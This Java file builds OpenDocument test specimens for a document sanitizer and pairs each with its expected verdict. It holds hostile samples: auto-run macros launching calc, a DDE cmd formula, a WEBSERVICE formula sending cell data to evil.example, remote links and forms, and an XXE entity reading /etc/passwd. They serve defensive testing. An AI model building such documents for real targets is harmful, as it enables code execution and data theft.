package jp.kakehashi.sanitizer.specimens;

import static jp.kakehashi.sanitizer.Verdict.BLOCKED;
import static jp.kakehashi.sanitizer.Verdict.CLEAN;
import static jp.kakehashi.sanitizer.Verdict.QUARANTINED;
import static jp.kakehashi.sanitizer.Verdict.SANITIZED;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.CRC32;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/**
 * OpenDocument specimens (CDR-NOTES §3): Basic and Python macros bound to document events, OLE
 * objects, linked sections, macro and file links, fetching formulas, presentation actions,
 * forms, remote pictures, UI bindings, encryption and DOCTYPE. Packages are written by hand, as
 * an attacker would, with {@code mimetype} first and stored.
 */
public final class OdfSpecimens {
    static final String TEXT_TYPE = "application/vnd.oasis.opendocument.text";
    static final String SHEET_TYPE = "application/vnd.oasis.opendocument.spreadsheet";
    static final String SLIDES_TYPE = "application/vnd.oasis.opendocument.presentation";

    private static final String NS = " xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\""
            + " xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\""
            + " xmlns:table=\"urn:oasis:names:tc:opendocument:xmlns:table:1.0\""
            + " xmlns:draw=\"urn:oasis:names:tc:opendocument:xmlns:drawing:1.0\""
            + " xmlns:form=\"urn:oasis:names:tc:opendocument:xmlns:form:1.0\""
            + " xmlns:script=\"urn:oasis:names:tc:opendocument:xmlns:script:1.0\""
            + " xmlns:presentation=\"urn:oasis:names:tc:opendocument:xmlns:presentation:1.0\""
            + " xmlns:svg=\"urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0\""
            + " xmlns:xlink=\"http://www.w3.org/1999/xlink\""
            + " xmlns:of=\"urn:oasis:names:tc:opendocument:xmlns:of:1.2\" office:version=\"1.3\"";
    private static final String ON_OPEN = "<office:scripts><office:event-listeners>"
            + "<script:event-listener script:language=\"ooo:script\" script:event-name=\"dom:load\""
            + " xlink:href=\"vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document\"/>"
            + "</office:event-listeners></office:scripts>";

    private OdfSpecimens() {}

    public static List<Specimen> all() {
        List<Specimen> s = new ArrayList<>();
        s.add(new Specimen("ODF-00", "議事録.odt", odt("<text:p>議事録の本文です。</text:p>"), CLEAN, ""));
        Map<String, byte[]> basic = parts(TEXT_TYPE, ON_OPEN, "<text:p>議事録</text:p>");
        basic.put(
                "Basic/Standard/Module1.xml",
                ascii("<script:module script:name=\"Module1\">Sub Main\nShell(\"calc.exe\")\nEnd Sub</script:module>"));
        basic.put("Basic/script-lc.xml", ascii("<library:libraries/>"));
        s.add(new Specimen("ODF-01a", "議事録.odt", write(TEXT_TYPE, basic), SANITIZED, "macro"));
        s.add(new Specimen("ODF-01b", "議事録.docx", write(TEXT_TYPE, basic), SANITIZED, "macro"));
        Map<String, byte[]> python = parts(
                SHEET_TYPE,
                "",
                sheetBody(
                        "<table:table-cell office:value-type=\"float\" office:value=\"1\"><text:p>1</text:p></table:table-cell>"));
        python.put("Scripts/python/evil.py", ascii("import os\nos.system('calc')\n"));
        s.add(new Specimen("ODF-02", "集計.ods", write(SHEET_TYPE, python), SANITIZED, "macro"));
        Map<String, byte[]> ole = parts(
                TEXT_TYPE,
                "",
                "<text:p><draw:frame draw:name=\"obj\"><draw:object-ole xlink:href=\"./Object 1\"/>"
                        + "<draw:image xlink:href=\"./ObjectReplacements/Object 1\"/></draw:frame></text:p>");
        ole.put("Object 1", HostileSpecimens.ole2Header());
        ole.put("ObjectReplacements/Object 1", HostileSpecimens.image("png", 8, 8));
        s.add(new Specimen("ODF-03", "図入り.odt", write(TEXT_TYPE, ole), SANITIZED, "ole-object"));
        s.add(new Specimen(
                "ODF-04",
                "連携.odt",
                odt(
                        "<text:section text:name=\"s\"><text:section-source xlink:href=\"file://evil.example/share/x.odt\"/>"
                                + "<text:p>差し込み</text:p></text:section>"),
                SANITIZED,
                "external-reference"));
        s.add(new Specimen(
                "ODF-05",
                "案内.odt",
                odt("<text:p><text:a xlink:type=\"simple\" xlink:href=\"vnd.sun.star.script:Standard.Module1.Main"
                        + "?language=Basic&amp;location=document\">ここをクリック</text:a></text:p>"),
                SANITIZED,
                "macro"));
        s.add(new Specimen(
                "ODF-06",
                "取得.ods",
                ods(
                        "<table:table-cell table:formula=\"of:=WEBSERVICE(&quot;http://evil.example/?q=&quot;&amp;[.B1])\""
                                + " office:value-type=\"string\" office:string-value=\"x\"><text:p>x</text:p></table:table-cell>"),
                SANITIZED,
                "external-reference"));
        s.add(new Specimen(
                "ODF-07",
                "請求.ods",
                ods("<table:table-cell table:formula=\"of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;A0&quot;)\""
                        + " office:value-type=\"float\" office:value=\"0\"><text:p>0</text:p></table:table-cell>"),
                SANITIZED,
                "dde"));
        s.add(new Specimen(
                "ODF-08",
                "説明.odp",
                write(
                        SLIDES_TYPE,
                        parts(
                                SLIDES_TYPE,
                                "",
                                "<office:presentation><draw:page draw:name=\"p1\"><draw:frame><draw:text-box>"
                                        + "<text:p>窓口</text:p></draw:text-box><office:event-listeners>"
                                        + "<presentation:event-listener script:event-name=\"dom:click\""
                                        + " presentation:action=\"execute\" xlink:href=\"file:///C:/Windows/System32/calc.exe\"/>"
                                        + "</office:event-listeners></draw:frame></draw:page></office:presentation>")),
                SANITIZED,
                "script"));
        s.add(new Specimen(
                "ODF-09",
                "申請書.odt",
                odt("<office:forms><form:form form:name=\"f\" xlink:href=\"http://evil.example/post\">"
                        + "<form:button form:name=\"b\" form:id=\"c1\"><office:event-listeners>"
                        + "<script:event-listener script:language=\"ooo:script\" script:event-name=\"form:performaction\""
                        + " xlink:href=\"vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document\"/>"
                        + "</office:event-listeners></form:button></form:form></office:forms><text:p>申請</text:p>"),
                SANITIZED,
                "form"));
        s.add(new Specimen(
                "ODF-10",
                "写真.odt",
                odt("<text:p><draw:frame draw:name=\"i\"><draw:image xlink:href=\"http://evil.example/track.png\"/>"
                        + "</draw:frame>写真</text:p>"),
                SANITIZED,
                "external-reference"));
        Map<String, byte[]> encrypted = parts(TEXT_TYPE, "", "<text:p>秘</text:p>");
        Zips.edit(
                encrypted,
                "META-INF/manifest.xml",
                m -> m.replace(
                        "manifest:full-path=\"content.xml\" manifest:media-type=\"text/xml\"/>",
                        "manifest:full-path=\"content.xml\" manifest:media-type=\"text/xml\"><manifest:encryption-data"
                                + " manifest:checksum-type=\"SHA1/1K\" manifest:checksum=\"AAAA\"><manifest:algorithm"
                                + " manifest:algorithm-name=\"Blowfish CFB\" manifest:initialisation-vector=\"AAAA\"/>"
                                + "<manifest:key-derivation manifest:key-derivation-name=\"PBKDF2\" manifest:iteration-count=\"1024\""
                                + " manifest:salt=\"AAAA\"/></manifest:encryption-data></manifest:file-entry>"));
        s.add(new Specimen("ODF-11", "秘密.odt", write(TEXT_TYPE, encrypted), QUARANTINED, "ENCRYPTED_CONTENT"));
        Map<String, byte[]> doctype = parts(TEXT_TYPE, "", "<text:p>x</text:p>");
        Zips.edit(
                doctype,
                "content.xml",
                c -> c.replace(
                        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>",
                        "<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE office:document-content ["
                                + "<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"));
        s.add(new Specimen("ODF-12", "doctype.odt", write(TEXT_TYPE, doctype), BLOCKED, "XML_DOCTYPE"));
        Map<String, byte[]> ui = parts(TEXT_TYPE, "", "<text:p>様式</text:p>");
        ui.put(
                "Configurations2/menubar/menubar.xml",
                ascii("<menu:menubar xmlns:menu=\"http://openoffice.org/2001/menu\"><menu:menuitem"
                        + " menu:id=\"vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document\"/>"
                        + "</menu:menubar>"));
        s.add(new Specimen("ODF-13", "様式.odt", write(TEXT_TYPE, ui), SANITIZED, "custom-ui"));
        s.add(new Specimen(
                "ODF-14",
                "リンク.odt",
                odt(
                        "<text:p><text:a xlink:type=\"simple\" xlink:href=\"https://www.city.example.lg.jp/\">市のサイト</text:a></text:p>"),
                CLEAN,
                ""));
        return s;
    }

    /** A text document with the given body inside {@code office:text}. */
    public static byte[] odt(String body) {
        return write(TEXT_TYPE, parts(TEXT_TYPE, "", body));
    }

    /** A spreadsheet with one row of the given cells. */
    public static byte[] ods(String cells) {
        return write(SHEET_TYPE, parts(SHEET_TYPE, "", sheetBody(cells)));
    }

    private static String sheetBody(String cells) {
        return "<office:spreadsheet><table:table table:name=\"Sheet1\"><table:table-row>" + cells
                + "</table:table-row></table:table></office:spreadsheet>";
    }

    /** The parts of a minimal package: manifest, content (with optional scripts) and styles. */
    static Map<String, byte[]> parts(String mediaType, String scripts, String body) {
        String wrapped = mediaType.equals(TEXT_TYPE) ? "<office:text>" + body + "</office:text>" : body;
        Map<String, byte[]> p = new LinkedHashMap<>();
        p.put(
                "META-INF/manifest.xml",
                utf8("<?xml version=\"1.0\" encoding=\"UTF-8\"?><manifest:manifest"
                        + " xmlns:manifest=\"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0\" manifest:version=\"1.3\">"
                        + "<manifest:file-entry manifest:full-path=\"/\" manifest:media-type=\"" + mediaType + "\"/>"
                        + "<manifest:file-entry manifest:full-path=\"content.xml\" manifest:media-type=\"text/xml\"/>"
                        + "<manifest:file-entry manifest:full-path=\"styles.xml\" manifest:media-type=\"text/xml\"/>"
                        + "</manifest:manifest>"));
        p.put(
                "content.xml",
                utf8("<?xml version=\"1.0\" encoding=\"UTF-8\"?><office:document-content" + NS + ">" + scripts
                        + "<office:body>" + wrapped + "</office:body></office:document-content>"));
        p.put(
                "styles.xml",
                utf8("<?xml version=\"1.0\" encoding=\"UTF-8\"?><office:document-styles" + NS + "><office:styles/>"
                        + "</office:document-styles>"));
        return p;
    }

    /** Writes a package as ODF requires: {@code mimetype} first and stored. */
    public static byte[] write(String mediaType, Map<String, byte[]> parts) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            byte[] type = ascii(mediaType);
            ZipEntry mimetype = new ZipEntry("mimetype");
            mimetype.setMethod(ZipEntry.STORED);
            mimetype.setSize(type.length);
            CRC32 crc = new CRC32();
            crc.update(type);
            mimetype.setCrc(crc.getValue());
            zip.putNextEntry(mimetype);
            zip.write(type);
            zip.closeEntry();
            for (Map.Entry<String, byte[]> e : parts.entrySet()) {
                zip.putNextEntry(new ZipEntry(e.getKey()));
                zip.write(e.getValue());
                zip.closeEntry();
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    private static byte[] ascii(String s) {
        return s.getBytes(StandardCharsets.US_ASCII);
    }

    private static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }
}
